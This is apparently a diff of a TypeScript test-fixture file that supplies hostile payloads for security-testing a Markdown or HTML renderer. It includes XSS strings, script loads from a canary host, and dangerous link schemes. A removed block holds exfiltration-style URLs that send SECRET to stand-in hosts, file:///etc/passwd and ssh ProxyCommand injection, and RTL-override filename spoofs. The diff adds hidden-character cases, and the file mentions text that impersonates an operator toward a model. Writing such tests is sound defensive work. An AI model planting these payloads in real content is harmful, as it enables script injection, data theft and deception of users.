@@ -1,5 +1,7 @@
 /** Hostile texts of the kinds A21 to A31 of the threat list. `xss()` is the canary of the page, CANARY that of the network. */
 
+import { inMarkdown } from './addresses.ts';
+
 const HTML = [
   '<script>xss()</script>',
   '<script src="CANARY/a.js"></script>',
@@ -112,60 +114,6 @@ const HTML = [
   '<img src="data:image/svg+xml,<svg onload=xss()>">',
 ];
 
-const LINKS = [
-  'javascript:xss()',
-  'JaVaScRiPt:xss()',
-  'java\tscript:xss()',
-  'java&#x0A;script:xss()',
-  'javascript&colon;xss()',
-  '&#106;avascript:xss()',
-  ' javascript:xss()',
-  '\u0001javascript:xss()',
-  'vbscript:msgbox(1)',
-  'data:text/html,<script>xss()</script>',
-  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
-  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9eHNzKCk+',
-  'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D',
-  'COMMAND:workbench.action.files.newUntitledFile',
-  'command://sightline.ask',
-  'vscode://file/etc/passwd',
-  'vscode-insiders://x',
-  'vscode-webview://x/index.html',
-  'file:///etc/passwd',
-  'FILE:///c:/windows/win.ini',
-  'blob:CANARY/x',
-  'filesystem:CANARY/x',
-  'about:blank',
-  'CANARY/out?d=SECRET',
-  '//127.0.0.1/x',
-  '\\\\evil\\share',
-  'https://storage.googleapis.com/any-bucket/x',
-  'https://user:pw@evil.test/x',
-  'https://p\u0430ypal.com/login',
-  'https://evil.test/\u202efdp.exe',
-  'mailto:a@b.test?body=SECRET',
-  'ms-settings:x',
-  'ssh://-oProxyCommand=id/x',
-  'tel:123',
-  '#" onclick="xss()',
-  'x" style="background:url(CANARY/q.png)',
-  "x' onerror='xss()",
-];
-
-/** Each address in every form that Markdown has for one. */
-const MARKDOWN = LINKS.flatMap((url, i) => {
-  const forms = [
-    `[click](${url})`,
-    `![pixel](${url})`,
-    `[click](<${url}> "t\\" onmouseover=xss()")`,
-    `[click][r]\n\n[r]: ${url}`,
-    `<${url}>`,
-    `![a][i]\n\n[i]: ${url} "x"`,
-  ];
-  // Two forms each, in turn, so that every form meets many addresses.
-  return [forms[i % forms.length]!, forms[(i + 1) % forms.length]!];
-});
-
 const TRICKS = [
   '```<img src=x onerror=xss()>\ncode\n```',
   '```"><script>xss()</script>\ncode\n```',
@@ -223,6 +171,8 @@ export const HIDING: readonly (readonly [text: string, shown: string])[] = [
   ['\u{e0041}\u{e0042} tags', '⟨U+E0041⟩'],
   ['\u001b[31mred\u001b[0m', '⟨U+001B⟩'],
   ['\u009b2J', '⟨U+009B⟩'],
+  ['next\u0085line', '⟨U+0085⟩'],
+  ['pad\u0080', '⟨U+0080⟩'],
   ['bell\u0007', '⟨U+0007⟩'],
   ['nul\u0000', '⟨U+0000⟩'],
   ['back\u0008space', '⟨U+0008⟩'],
@@ -233,6 +183,21 @@ export const HIDING: readonly (readonly [text: string, shown: string])[] = [
   ['braille\u2800blank', '⟨U+2800⟩'],
   ['grapheme\u034fjoiner', '⟨U+034F⟩'],
   ['anno\ufff9tation', '⟨U+FFF9⟩'],
+];
+
+/** Hidden characters that exist only once Markdown was parsed: entities, and addresses that are decoded to be read. */
+export const ENCODED: readonly (readonly [text: string, shown: string])[] = [
+  ['a &#x202e;cod.exe', '⟨U+202E⟩'],
+  ['a &#8238;cod.exe', '⟨U+202E⟩'],
+  ['zero&ZeroWidthSpace;width', '⟨U+200B⟩'],
+  ['soft&shy;hyphen', '⟨U+00AD⟩'],
+  ['left&lrm;right&rlm;', '⟨U+200E⟩'],
+  ['tag &#xe0041;', '⟨U+E0041⟩'],
+  ['*em&zwj;phasis*', '⟨U+200D⟩'],
+  ['[link &#x2066;text](x)', '⟨U+2066⟩'],
+  ['[x](http://evil.test/&#x202e;fdp)', '%E2%80%AEfdp'],
+  ['<http://evil.test/%E2%80%AEfdp.exe>', '⟨U+202E⟩'],
+  ['![alt &#x200b;text](x)', '&#x200b;'],
 ];
 
 /** A model that plays a system, a tool or an operator: words, nothing else. */
@@ -248,7 +213,11 @@ const COMMANDEERING = [
 
 /** All payloads, with the address of the canary server in place. */
 export function payloads(canary: string): string[] {
-  return [...HTML, ...MARKDOWN, ...TRICKS, ...HIDING.map(([text]) => text), ...COMMANDEERING].map((text) =>
-    text.replaceAll('CANARY', canary),
-  );
+  return [
+    ...HTML,
+    ...inMarkdown(),
+    ...TRICKS,
+    ...[...HIDING, ...ENCODED].map(([text]) => text),
+    ...COMMANDEERING,
+  ].map((text) => text.replaceAll('CANARY', canary));
 }
